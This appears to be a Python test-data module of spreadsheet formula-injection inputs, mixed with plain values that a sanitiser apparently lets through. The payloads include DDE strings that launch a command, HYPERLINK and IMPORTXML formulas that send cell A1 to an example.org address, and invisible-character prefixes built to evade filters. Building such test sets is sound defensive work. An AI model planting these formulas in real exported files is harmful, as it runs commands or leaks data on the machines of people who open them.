"""Texts that spreadsheet programs run, or may be brought to run, and some that they do not."""

from itertools import product

SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://example.org/?leak="&A1,"here")',
    "SUM(A1:A9)",
    'IMPORTXML(CONCAT("https://example.org/",A1),"//a")',
    "10+20+cmd|' /C calc'!A0",
)
PREFIXES = (
    *("\t", "\r", "\n", " ", "   ", "\u00a0", "\u2003", "\u3000", "\u200b", "\ufeff", "\u2060", "\u00ad", "\u202e"),
    *("'", "''", '"', '""', "“", "‘", "`", ";", ",", "|", ";\t", " '", "\r\n", "\x00", "\x0b"),
)

PAYLOADS = (
    *(sign + body for sign, body in product(SIGNS, BODIES)),
    *(prefix + "=1+1" for prefix in PREFIXES),
    *(prefix + "@SUM(1+1)*cmd|' /C calc'!A0" for prefix in PREFIXES),
    *("=", "+", "-", "@", "=-1", "-=1", "+44 20 7946 0000", "-12.50", "−1+1", "﹦1+1", "﹢1", "﹣1", "﹫A1"),
    *("\tname", "\rname", "\nname", "\t", "=\u200b1", '=DDE("cmd";"/C calc";"x")', "=1\r\n=2", "+\n+", "@\t@"),
)

PLAIN = (
    "",
    "RM6100",
    "a=b",
    "1-2",
    "0",
    "12.50",
    "Fuel - cards",
    "O'Neill",
    "'quoted'",
    "(=1)",
    "https://a.example/?a=1",
)
